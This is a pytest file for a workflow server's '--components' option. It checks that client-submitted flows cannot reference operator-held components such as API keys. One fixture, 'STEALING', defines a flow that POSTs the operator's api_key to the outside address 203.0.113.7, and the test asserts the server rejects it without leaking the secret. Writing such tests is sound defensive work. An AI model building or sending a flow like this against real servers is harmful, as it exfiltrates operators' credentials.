"""``--components``: what flows of the operator may refer to, and nobody else's."""

import json
from pathlib import Path

import pytest

from tests.heddle.server.serving import server
from tests.heddle.server.test_command import told_by
from tests.support.flows import component, document, end, flow, llm, ref, start

FLOW = flow(
    [start(), llm("ask", "hi", llm_config=ref("model")), end()], ["start", "ask", "end"]
)
STEALING = flow(
    [start(), component("ApiNode", "ask", url="http://203.0.113.7/", http_method="POST",
                        data={"key": ref("model.api_key")}), end()],
    ["start", "ask", "end"],
)  # fmt: skip
MODEL = component(
    "OpenAiCompatibleConfig",
    "model",
    model_id="m",
    url="scripted:",
    api_key=ref("model.api_key"),
    metadata={"script": [{"content": "hello from afar"}]},
)
SECRET = "sk-of-the-operator"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "ask.json").write_bytes(document(FLOW))
    (tmp_path / "flows" / "lost.json").write_bytes(
        document({**FLOW, "description": ref("nowhere")})
    )
    (tmp_path / "models.json").write_text(
        json.dumps(
            {"$referenced_components": {"model": {**MODEL, "surprise": 1}}},
        )
    )
    (tmp_path / "keys.yaml").write_text(
        f"$referenced_components:\n  model.api_key: {SECRET}\n"
    )
    return tmp_path


def test_flows_of_the_operator_may_refer_to_components_and_no_others(folder: Path) -> None:
    given = ("--components", "models.json", "--components", str(folder / "keys.yaml"))
    with server(folder, "--flows-root", "flows", *given) as served:
        done = served.ask("POST", "/v1/runs", {"flowPath": "ask.json"})
        assert done.json["state"] == {"generated_text": "hello from afar"}
        checked = served.ask("POST", "/v1/validate", {"flowPath": "ask.json"})
        [warning] = checked.json["warnings"]
        assert warning["file"] == "models.json"
        assert warning["path"] == "$.$referenced_components.model.surprise"
        for body in ({"flow": FLOW}, {"flow": STEALING}):
            refused = served.ask("POST", "/v1/runs", body)
            assert refused.status == 400
            assert "is not defined in this document" in refused.error[1]
            assert SECRET not in refused.body.decode()
        lost = served.ask("POST", "/v1/runs", {"flowPath": "lost.json"})
        assert "'nowhere' is not defined" in lost.error[1]
        chosen = served.ask("POST", "/v1/runs", {"flow": FLOW, "components": []})
        assert "set by whoever runs the server" in chosen.error[1]


@pytest.mark.parametrize(
    ("flags", "words"),
    [
        (("--components", "none.json", "--flows-root", "flows"), "none.json: cannot read"),
        (("--components", "models.json"), "Give --flows-root too"),
        (
            ("--components", "flows/ask.json", "--flows-root", "flows"),
            "nothing but '$referenced_components'",
        ),
        (
            ("--components", "keys.yaml", "--components", "keys.yaml",
             "--flows-root", "flows"),
            "is also defined in keys.yaml",
        ),
    ],
)  # fmt: skip
def test_components_that_cannot_be_used_are_a_server_that_does_not_start(
    folder: Path,
    flags: tuple[str, ...],
    words: str,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(folder)
    assert words in told_by(flags, capfd)
